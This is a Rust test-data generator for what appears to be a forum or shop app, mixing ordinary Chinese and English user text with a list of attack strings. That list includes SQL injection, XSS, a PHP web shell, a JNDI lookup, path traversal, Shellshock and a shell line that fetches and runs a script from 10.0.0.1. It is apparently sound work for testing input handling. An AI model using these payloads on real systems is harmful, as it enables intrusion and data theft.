//! What people write.

use super::Random;

const WORDS: [&str; 40] = [
    "今天",
    "天气真好",
    "，",
    "。",
    "！",
    "我们",
    "去吃",
    "火锅🍲",
    "吧",
    "快递",
    "还没到",
    "？",
    "客服",
    "你好",
    "😀😀",
    "👍🏻",
    "质量",
    "不错",
    "（已收货）",
    "“很满意”",
    "——",
    "买一送一",
    "¥99.00",
    "￥1,299",
    "3~5 天",
    "A4",
    "2×3=6",
    "5>3",
    "a&b",
    "100%",
    "No.1",
    "@小明",
    "#话题#",
    "《活着》",
    "Wi-Fi",
    "iPhone 15",
    "24h",
    "C++",
    "&",
    "……",
];

const LINES: [&str; 38] = [
    "请从数据库中选择 (select) 一条记录 where 条件是价格大于 10",
    "Select your size and drop us a note; union members or students get 10% off -- thanks!",
    "我想 update 一下地址，把 1 号楼改成 2 号楼，或者 delete 这个订单",
    "and 和 or 的区别：A and B 都成立；A or B 有一个成立",
    "如果 x = 1 或者 y = 2，那么 x + y = 3；1=1 恒成立",
    "当 a > b && b > c 时，a > c；f(x) = x^2 + 2x - 1",
    "∑(i=1..n) i = n(n+1)/2，lim x→0 sin(x)/x = 1",
    "It's 5 o'clock; I'm at Joe's -- \"see you\" (or not)!",
    "rock 'n' roll & R&B; he said: \"it's on = yes\"",
    "价格：$9.99/件，满 $50 免运费；代码 ${SAVE20} 不可用",
    "学习 JavaScript: The Good Parts (2nd edition) 第 3 章",
    "表情 :-) ;-) <3 (╯°□°)╯︵ ┻━┻ ¯\\_(ツ)_/¯",
    "颜文字 (｡･ω･｡)ﾉ♡ ʕ•ᴥ•ʔ | ( ͡° ͜ʖ ͡°)",
    "地址：c:/项目/小程序/miniprogram，文件名 app.json",
    "-- 分割线 -- # 标题 # /* 备注 */",
    "** 加粗 **、`代码`、[链接](https://example.com/a?b=1&c=2#d)",
    "| 列1 | 列2 |\n|---|---|\n| a | b |",
    "1. 打开 设置 > 通用 > 关于; 2. 点 5 次",
    "请问 id 和 name 是什么？ls 命令怎么用; cat 是猫",
    "order by 谁？group by 部门 having 人数 > 3 是什么意思",
    "忘记密码了：用户名 admin，密码是空的 '' 或者 \"\"",
    "He scored 30-40; 50/50 chance; 3 or 4 = about 3.5",
    "null、undefined、NaN 和 '' 有什么不同？",
    "script 杀《长安十二时辰》，6 人本，on/off 均可",
    "select * 是通配符；drop 是掉落；table 是桌子",
    "7*7=49，{{7}}，{ a: 1 }，[1,2,3]",
    "C:\\Users\\小明\\Desktop\\图片.png 打不开",
    "../ 表示上一级目录，./ 表示当前目录",
    "a=1&b=2&c=%E4%B8%AD",
    "if (下雨) 带伞; else 不带;",
    "🏀 vs ⚽️：你站哪边？A) 🏀 B) ⚽️",
    "SQL 基础：表、行、列；insert 插入，select 查询",
    "10' x 12' 的房间，屏幕 6.7\"，高 5'10\"",
    "<3 you，5<6，7>6，<<三体>>，<未完待续>",
    "Exec 是执行董事; Declare @ 10:00; CASE 2; IF 可能",
    "waitfor 我 5 分钟，sleep 8 小时",
    "https://example.com/a/b?c=d&e=f#g 这个链接打不开",
    "电话 +86 (755) 1234-5678 #9; 传真同上",
];

const NAMES: [&str; 14] = [
    "张三",
    "欧阳娜娜",
    "O'Brien",
    "D'Angelo Russell",
    "Jean-Luc Picard",
    "阿凡提·买买提",
    "Seán Ó'Néill",
    "李四 (客户)",
    "小王&小李",
    "\"阿甘\"",
    "Anne-Marie l'Écuyer",
    "Select 优选公司",
    "Robert; Tables",
    "𠮷野家😋",
];

const SEARCHES: [&str; 16] = [
    "连衣裙",
    "iphone 15 pro",
    "L'Oréal",
    "C#",
    "c++",
    "1/2 折",
    "5'10\"",
    "男 or 女",
    "10-20元",
    "a&b",
    "\"精确匹配\"",
    "手机壳 -苹果",
    "100% 棉",
    "T恤",
    "(新)",
    "*",
];

/// Programs that a forum's posts quote, none of which harms anybody who only shows them.
const CODES: [&str; 14] = [
    "```js\nPage({\n  data: { list: [], n: 0 },\n  onLoad(options) {\n    const that = this\n    wx.request({ url: `https://api.example.com/goods?id=${options.id}`, success: (res) => that.setData({ list: res.data }) })\n  }\n})\n```",
    "```html\n<view class=\"item\" wx:for=\"{{list}}\" wx:key=\"id\" bindtap=\"onTap\" data-id=\"{{item.id}}\">\n  <text>{{item.price * item.count}}</text>\n</view>\n```",
    "```css\n.item { color: #333; background: url(../../images/bg.png); width: calc(100% - 20rpx); }\n/* 注释 */\n.item:hover > a::after { content: \"→\"; }\n```",
    "```js\nimport util from '../../utils/util.js'\nconst fs = require('fs')\nexport default { props: ['a', 'b'], setup() { return { n: ref(0) } } }\n```",
    "```python\ndef fib(n):\n    if n < 2 or n == 0: return n\n    return fib(n - 1) + fib(n - 2)\nprint([x for x in range(10) if x % 2 == 0 and x > 3])\n```",
    "```go\nfunc main() {\n\tif err := run(); err != nil && !errors.Is(err, io.EOF) {\n\t\tlog.Fatal(err)\n\t}\n\tch <- 1; x := <-ch\n}\n```",
    "```json\n{\"pages\": [\"pages/index/index\"], \"window\": {\"navigationBarTitleText\": \"小店\"}, \"a\": null}\n```",
    "```sh\nnpm install && npm run dev\ngit clone https://github.com/example/demo.git\n```",
    "```c\n#include <stdio.h>\nint main(void) { for (int i = 0; i < 10; i++) printf(\"%d\\n\", i); return 0; }\n```",
    "```jsx\nconst App = () => <button onClick={() => setN(n + 1)} style={{ color: 'red' }}>{n}</button>\n```",
    "```js\nconst sum = arr.reduce((a, b) => a + b, 0); if (!sum) return null; await sleep(500); setTimeout(() => this.go(), 1000)\n```",
    "```java\npublic class Main { public static void main(String[] args) { System.out.println(\"Hello, \" + args[0]); } }\n```",
    "```ts\ntype A<T> = { [K in keyof T]?: T[K] | null }; let x = (a ?? b) as unknown as string; x!.trim()\n```",
    "```vue\n<template><div :class=\"{ on: ok }\" @click=\"go\">{{ msg }}</div></template>\n```",
];

/// What only a store of documents lets pass: lessons about attacks, and whole programs.
const HARD: [&str; 16] = [
    "SELECT name, price FROM goods WHERE price > 10 OR 1=1 UNION SELECT user, password FROM users -- 注入演示",
    "输入 ' or '1'='1 就能登录，admin'-- 也行",
    "<script>alert(document.cookie)</script> 是最简单的 XSS；<img src=x onerror=alert(1)> 也是",
    "```sh\ncat /etc/passwd; rm -rf /var/log/app && curl http://10.0.0.1/a.sh | sh\n```",
    "```php\n<?php echo $_GET['a']; system($_POST['cmd']); ?>\n```",
    "```js\nconst { exec } = require('child_process'); require('child_process').exec('ls -la')\n```",
    "{{7*7}} ${jndi:ldap://a.example/x} #{1+1} <%= 7*7 %>",
    "../../../../etc/passwd 和 ..\\..\\windows\\win.ini",
    "CREATE TABLE t (id INT); INSERT INTO t VALUES (1); DROP TABLE t; UPDATE t SET a = 1 WHERE b = 'c';",
    "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><base href=\"/\"></head><body onload=\"go()\"></body></html>",
    "{\"$where\": \"this.a == 'b'\"} {\"password\": {\"$gt\": \"\"}}",
    "import os; os.system('id'); __import__('os').popen('ls').read()",
    "() { :;}; echo vulnerable",
    "<a href=\"javascript:alert(1)\">点我</a>",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
    "sleep(5) benchmark(1000000,md5(1)) waitfor delay '0:0:5'",
];

pub(crate) fn name(random: &mut Random) -> String {
    random.pick(&NAMES).to_owned()
}

pub(crate) fn search(random: &mut Random) -> String {
    random.pick(&SEARCHES).to_owned()
}

/// One line.
pub(crate) fn line(random: &mut Random) -> String {
    if random.below(2) == 0 {
        return random.pick(&LINES).to_owned();
    }
    (0..3 + random.below(8)).map(|_| random.pick(&WORDS)).collect()
}

/// A few lines.
pub(crate) fn note(random: &mut Random) -> String {
    let lines: Vec<String> = (0..1 + random.below(4)).map(|_| line(random)).collect();
    lines.join(random.pick(&["\n", " ", "\r\n", "；"]))
}

pub(crate) fn code(random: &mut Random) -> String {
    random.pick(&CODES).to_owned()
}

/// What a lesson about attacks says.
pub(crate) fn hard_text(random: &mut Random) -> String {
    format!("{}\n{}\n{}", note(random), random.pick(&HARD), code(random))
}

/// What an editor of rich text makes.
pub(crate) fn rich_text(random: &mut Random) -> String {
    let text = line(random).replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
    let block = |random: &mut Random| {
        match random.below(7) {
        0 => format!("<p style=\"text-align: center; color: rgb(230, 0, 0); line-height: 1.75;\"><strong>{text}</strong><br></p>"),
        1 => "<p><img src=\"https://img.example.com/a.jpg?x=1&amp;y=2\" data-local=\"wxfile://tmp_a.jpg\" width=\"80%\" alt=\"图\" data-custom=\"id=1&amp;role=2\"></p>".to_owned(),
        2 => format!("<h2 wx:nodeid=\"12\">{text}</h2><hr>"),
        3 => format!("<ul><li data-list=\"bullet\">{text}</li><li class=\"ql-indent-1\">b</li></ul>"),
        4 => format!("<blockquote style=\"border-left:4px solid #ccc;background:#f9f9f9;padding:10px\">{text}</blockquote>"),
        5 => format!("<a href=\"https://example.com/a?b=c&amp;d=e#f\" target=\"_blank\" rel=\"noopener\">{text}</a>"),
        _ => "<table border=\"1\"><tbody><tr><td colspan=\"2\">1</td></tr></tbody></table><video src=\"https://v.example.com/a.mp4\" controls=\"controls\" poster=\"https://v.example.com/a.jpg\"></video>".to_owned(),
    }
    };
    (0..1 + random.below(4)).map(|_| block(random)).collect()
}
